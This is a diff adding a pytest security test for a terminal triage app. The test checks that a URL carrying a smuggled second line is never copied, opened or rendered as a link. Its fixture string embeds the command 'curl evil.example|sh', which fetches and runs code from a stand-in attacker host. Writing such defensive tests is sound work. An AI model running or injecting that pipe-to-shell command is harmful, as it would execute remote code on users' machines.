@@ -1,0 +1,62 @@
+"""What leaves the app because of the service's data: the clipboard, the browser, links.
+
+The real app against the simulator over loopback; the hostile values are put into the
+simulator's state, as a hostile service would send them.
+"""
+
+from __future__ import annotations
+
+import asyncio
+
+import pytest
+from textual.pilot import Pilot
+
+from tests.security.test_hostile_input import frame_bytes, link_targets
+from tests.ui.harness import FIXED_EPOCH, make_app, ready, wait_for
+from triage_tui.sim import SimServer
+from triage_tui.ui.app import TriageApp
+
+PASTE_JACK = "https://example.com/a\ncurl evil.example|sh"
+REFUSED = "not copied: the link is not a plain http(s) URL"
+
+
+async def _select_new(app: TriageApp, pilot: Pilot, sim: SimServer, **fields: object) -> int:
+    """A mention with `fields` arrives by the stream; the cursor goes to it."""
+    added = await asyncio.to_thread(
+        sim.state.add_mention, sim.alert_ids[0], folder="inbox", trashed=False, **fields
+    )
+    new_id = int(added["id"])
+    await wait_for(pilot, lambda: app.feed.row_by_id(new_id) is not None)
+    await wait_for(pilot, lambda: app.feed.jump_to_id(new_id))
+    await pilot.pause(0.05)
+    return new_id
+
+
+def _status(app: TriageApp) -> str:
+    return str(app.status.render())
+
+
+async def test_a_url_with_a_second_line_is_never_copied_opened_or_linked(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setenv("SSH_CONNECTION", "10.0.0.1 5000 10.0.0.2 22")  # no local browser
+    with SimServer(seed=11, mentions_per_alert=2, mark_interval=0.2, epoch=FIXED_EPOCH) as sim:
+        app = make_app(sim)
+        async with app.run_test(size=(120, 40)) as pilot:
+            await ready(pilot, app)
+            await _select_new(app, pilot, sim, original_url=PASTE_JACK, clickable_url=PASTE_JACK)
+            assert not any("evil" in t for t in link_targets(frame_bytes(app)))
+            await pilot.press("y")
+            assert app.clipboard == ""
+            assert REFUSED in _status(app)
+            await pilot.press("o")
+            assert app.clipboard == ""
+            assert "not opened: the link is not a plain http(s) URL" in _status(app)
+            # A plain one still goes to the clipboard, by both keys.
+            good = "https://example.com/post/1"
+            await _select_new(app, pilot, sim, original_url=good, clickable_url=good)
+            await pilot.press("y")
+            assert app.clipboard == good
+            app.copy_to_clipboard("")
+            await pilot.press("o")
+            assert app.clipboard == good
